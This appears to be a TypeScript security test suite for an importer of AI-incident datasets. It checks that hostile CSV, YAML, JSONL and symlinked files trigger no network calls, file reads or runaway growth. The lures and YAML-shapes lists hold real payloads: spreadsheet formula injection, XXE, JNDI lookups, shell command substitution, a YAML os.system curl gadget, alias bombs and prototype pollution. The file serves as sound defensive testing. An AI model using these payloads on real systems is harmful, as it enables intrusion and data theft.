// Files of somebody who does not mean well: what they name is neither called nor opened, and what they hold is data.

import { execFile, execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import type { ImportResult } from '@detente/interop';
import { type Test, test } from 'tap';

const repository = resolve(import.meta.dirname, '../../..');
const header =
  'incident_id,date,Alleged deployer of AI system,Alleged developer of AI system,Alleged harmed or nearly harmed parties,description,title';

/** What a file may say so that a reader calls somebody or opens something. */
const lures = (port: number, secret: string) => [
  `http://127.0.0.1:${port}/a`,
  `=WEBSERVICE("http://127.0.0.1:${port}/a")`,
  `=HYPERLINK("http://127.0.0.1:${port}/a";"x")`,
  `+cmd|' /C calc'!A0`,
  '-2+3+cmd|A0',
  '@SUM(1+1)',
  '\t=1+1',
  `<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:${port}/e">]><x>&e;</x>`,
  `<!ENTITY % p SYSTEM "file://${secret}"> %p;`,
  `<img src="http://127.0.0.1:${port}/i"><script src=//127.0.0.1:${port}/s></script>`,
  `![x](http://127.0.0.1:${port}/m) [x](file://${secret})`,
  `file://${secret}`,
  secret,
  `../../../../../../../../..${secret}`,
  `\\\\127.0.0.1@${port}\\share\\x`,
  `\${jndi:ldap://127.0.0.1:${port}/a}`,
  `$(cat ${secret})`,
  `{{ include("${secret}") }} <%= File.read("${secret}") %>`,
];

/** A folder, a secret beside it, and somebody who counts who calls. */
async function prepare(t: Test) {
  const root = mkdtempSync(join(tmpdir(), 'detente-hostile-import-'));
  t.teardown(() => rmSync(root, { recursive: true, force: true }));
  const folder = join(root, 'given');
  mkdirSync(folder);
  const secret = join(root, 'secret.yaml');
  writeFileSync(secret, study('CANARY'));
  const server = createServer((socket) => socket.destroy()).listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.teardown(() => server.close());
  const seen = { connections: 0 };
  server.on('connection', () => seen.connections++);
  return { root, folder, secret, seen, port: (server.address() as AddressInfo).port };
}

function study(summary: string, more = ''): string {
  const kind = 'incident-date: 2020-01-01\nincident-date-granularity: DATE\ncase-study-type: exercise\n';
  return `id: AML.CS0001\nobject-type: case-study\nname: N\nsummary: ${JSON.stringify(summary)}\n${kind}${more}`;
}

function report(id: number, change: object): string {
  return JSON.stringify({
    data_type: 'AVID',
    metadata: { report_id: `AVID-2023-R${String(id).padStart(4, '0')}` },
    affects: { developer: ['Acme'], deployer: [], artifacts: [] },
    problemtype: { classof: 'CVE Entry', description: { lang: 'eng', value: 'A title' } },
    description: { lang: 'eng', value: 'A description.' },
    references: [],
    reported_date: '2023-01-13',
    ...change,
  });
}

const importing = `
  const { readImports } = await import(process.argv[1]);
  const { subscribe } = await import('node:diagnostics_channel');
  let sockets = 0;
  subscribe('net.client.socket', () => sockets++);
  let results, fault;
  try { results = readImports([process.argv[2]]); } catch (error) { fault = { code: error.code, message: error.message }; }
  await new Promise((resolve) => setTimeout(resolve, 50));
  process.stdout.write(JSON.stringify({ sockets, results, fault }));`;

/** Imports in a process that may read the repository and the folder, write nothing and start nothing. */
async function importOf(folder: string) {
  const module = join(repository, 'services/detente/src/import-run.ts');
  // ATLAS keeps its matrix one folder above its case studies.
  const reads = [repository, folder, join(folder, '../ATLAS.yaml')].map((path) => `--allow-fs-read=${path}`);
  const args = ['--permission', ...reads, '--no-warnings', '--input-type=module', '--eval', importing, module, folder];
  // A test runner's own options ask for more than this process may.
  const shell = ['-c', 'unset NODE_OPTIONS; exec "$@"', 'sh', process.execPath, ...args];
  const { stdout } = await promisify(execFile)('sh', shell, {
    timeout: 60_000,
    maxBuffer: 64 * 1024 * 1024,
    cwd: repository,
  });
  type Outcome = { sockets: number; results?: ImportResult[]; fault?: { code: string; message: string } };
  return { text: stdout, ...(JSON.parse(stdout) as Outcome) };
}

test('what a file names is neither called nor opened', async (t) => {
  const { folder, secret, seen, port } = await prepare(t);
  const texts = lures(port, secret);
  const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const rows = texts.map((text, at) =>
    [at + 1, '2020-01-01', cell(JSON.stringify([text])), '"[]"', '"[]"', cell(text), cell(text)].join(','),
  );
  writeFileSync(join(folder, 'incidents.csv'), [header, ...rows].join('\n'));
  const references = texts.map((url) => `- title: x\n  url: ${JSON.stringify(url)}\n`).join('');
  writeFileSync(join(folder, 'AML.CS0001.yaml'), study(texts.join(' '), `references:\n${references}`));
  const told = texts.map((text, at) =>
    report(at + 1, {
      description: { lang: 'eng', value: text },
      references: [{ type: 'source', label: text, url: text }],
      $ref: text,
      $schema: text,
      '@context': text,
    }),
  );
  writeFileSync(join(folder, 'avid-reports.jsonl'), `${told.join('\n')}\n`);

  const { results, sockets, text } = await importOf(folder);
  t.equal(seen.connections, 0);
  t.equal(sockets, 0);
  t.notMatch(text, /CANARY/);
  const cases = results!.flatMap((one) => one.cases);
  const aiid = cases.filter(({ key }) => key.startsWith('aiid:'));
  t.equal(aiid.length, texts.length);
  const links = (one: string) => /^!\[/.test(one);
  for (const [at, { fields }] of aiid.entries())
    if (!links(texts[at]!)) t.equal((fields as { title: string }).title, texts[at]!.trim(), 'a formula is a text');
});

test('YAML opens nothing and grows into nothing', async (t) => {
  const { root, folder, secret, seen, port } = await prepare(t);
  const level = (at: number) => `x${at}: &a${at} [${Array.from({ length: 9 }, () => `*a${at - 1}`).join(', ')}]\n`;
  const shapes: [what: string, more: string][] = [
    ['an alias bomb', `x0: &a0 [lol]\n${[1, 2, 3, 4, 5, 6, 7, 8, 9].map(level).join('')}`],
    ['an alias of itself', 'x: &x [*x]\n'],
    ['a merge of itself', 'x: &x {<<: *x, a: 1}\n'],
    ['an include', `x: !include ${secret}\n`],
    ['a file', `x: !!python/object/apply:builtins.open ["${secret}"]\n`],
    ['a call', `x: !!python/object/apply:os.system ["curl http://127.0.0.1:${port}"]\n`],
    ['a class', `x: !!javax.script.ScriptEngineManager [!!java.net.URL ["http://127.0.0.1:${port}/"]]\n`],
    ['a function', 'x: !!js/function "function () { process.exit(7) }"\n'],
    ['another document', `---\n${study('second')}`],
    ['a tag of a URL', `x: !<tag:http://127.0.0.1:${port}/,2002:x> y\n`],
    ['a directive', `%TAG ! http://127.0.0.1:${port}/\n---\nx: 1\n`],
    ['a deep value', `x: ${'['.repeat(20_000)}${']'.repeat(20_000)}\n`],
    ['a prototype', '__proto__: {polluted: true}\nconstructor: {prototype: {polluted: true}}\n'],
  ];
  for (const [at, [what, more]] of shapes.entries()) {
    const one = join(root, `yaml-${at}`);
    mkdirSync(one);
    writeFileSync(join(one, 'AML.CS0001.yaml'), study('S', more));
    const { results, fault, sockets, text } = await importOf(one);
    t.notMatch(text, /CANARY|polluted":true,"/, what);
    t.ok(text.length < 200_000, `${what} stays small`);
    t.equal(sockets, 0, what);
    if (fault) t.match(fault.code, /^yaml_/, what);
    else t.ok(results!.length === 1, `${what} is data`);
  }
  t.equal(seen.connections, 0);
  t.ok(folder);
});

test('of a folder no link is followed, whatever it is called, and nothing is read that is no file', async (t) => {
  const { root, folder, secret } = await prepare(t);
  const outside = join(root, 'outside');
  mkdirSync(outside);
  writeFileSync(join(outside, 'AML.CS0002.yaml'), study('CANARY'));
  // Would be refused, and the whole import with it, if it were read.
  writeFileSync(join(outside, 'ATLAS.yaml'), 'id: ATLAS\nmatrices: !secret x\n');
  mkdirSync(join(folder, 'case-studies'));
  writeFileSync(join(folder, 'case-studies', 'AML.CS0003.yaml'), study('plain').replace('CS0001', 'CS0003'));
  symlinkSync(secret, join(folder, 'AML.CS0001.yaml'));
  symlinkSync(outside, join(folder, 'more'));
  symlinkSync(join(outside, 'ATLAS.yaml'), join(folder, 'ATLAS.yaml'));
  symlinkSync(join(outside, 'ATLAS.yaml'), join(folder, 'case-studies', 'ATLAS.yaml'));
  symlinkSync('/dev/zero', join(folder, 'zero.csv'));
  symlinkSync(folder, join(folder, 'round'));
  execFileSync('mkfifo', [join(folder, 'pipe.yaml')]);
  const { results, text } = await importOf(folder);
  t.same(
    results!.flatMap(({ cases }) => cases.map(({ key }) => key)),
    ['atlas:AML.CS0003'],
  );
  t.notMatch(text, /CANARY/);
});

test('a file that is too large is refused before it is read', async (t) => {
  const { folder } = await prepare(t);
  const file = join(folder, 'incidents.csv');
  writeFileSync(file, `${header}\n`);
  truncateSync(file, 8 * 1024 ** 4);
  const { fault } = await importOf(folder);
  t.equal(fault?.code, 'file_too_large');
});
